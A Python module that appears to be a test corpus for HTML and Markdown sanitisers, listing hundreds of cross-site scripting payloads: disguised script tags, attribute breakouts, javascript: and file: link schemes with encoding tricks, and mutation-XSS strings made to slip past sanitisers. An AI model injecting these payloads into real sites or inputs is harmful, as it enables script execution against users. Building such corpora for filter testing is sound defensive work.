"""What attackers write into fields: script in every disguise, ways out of attributes, links that run."""

from itertools import product

RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x`" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<style>@import '/static/x.css';</style>",
    "<base href='https://mallory.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "{{ 7 * 7 }}{% raw %}<b>",
    "${alert(1)}",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></li></ol></main><script>alert(1)</script>",
)
OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "-->",
    '" autofocus onfocus="alert(1)" x="',
)
"""Ways out of where a text stands."""

PAYLOADS = tuple(out + run for out, run in product(OUT, RUNS))
"""More than 300."""

SAMPLE = (*RUNS, *(out + RUNS[3] for out in OUT[1:]))

SCHEMES = (
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "blob:x",
    "view-source:x",
)


def disguised(link: str) -> tuple[str, ...]:
    """A link as filters have let it pass: by case, entities, line ends and letters that aren't seen."""
    scheme, _, rest = link.partition(":")
    middle = len(scheme) // 2
    return (
        link,
        link.upper(),
        f"{scheme.title()}:{rest}",
        f" {link}",
        f"{scheme[:middle]}\n{scheme[middle:]}:{rest}",
        f"{scheme[:middle]}\t{scheme[middle:]}:{rest}",
        f"{scheme}&colon;{rest}",
        f"{scheme}&#58;{rest}",
        f"{scheme}&#x3a;{rest}",
        f"&#{ord(scheme[0])};{scheme[1:]}:{rest}",
        f"{scheme[:middle]}&NewLine;{scheme[middle:]}:{rest}",
        f"{scheme[:middle]}&Tab;{scheme[middle:]}:{rest}",
        f"\u0001{link}",
        f"{scheme}%3A{rest}",
        f"{scheme[:middle]}\\\n{scheme[middle:]}:{rest}",
    )


LINKS = tuple(
    written.format(each)
    for link in SCHEMES
    for each in disguised(link)
    for written in ("[x]({})", "[x](<{}>)", "<{}>", '<a href="{}">x</a>', "[x][r]\n\n[r]: {}", "![x]({})")
)
"""A link in each way of writing that Markdown knows, times scheme, times disguise."""

MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><iframe xmlns=x><![CDATA[</iframe><img src=x onerror=alert(1)>]]>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<a href="x"><svg><style><img src=x onerror=alert(1)></style></svg></a>',
    "<p><svg><title><style><!--</title><img src=x onerror=alert(1)>--></style>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    "<table><caption><svg><desc><table><caption><style><!--</style><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<pre><code class="x" onclick=alert(1)>x</code></pre>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    "<a href='http://a\" onmouseover=alert(1) x=\"'>x</a>",
    '<ol start="1" style="background:url(javascript:alert(1))"><li>x',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
)
"""HTML that was harmless to a sanitiser and changed its meaning when a browser read it again."""
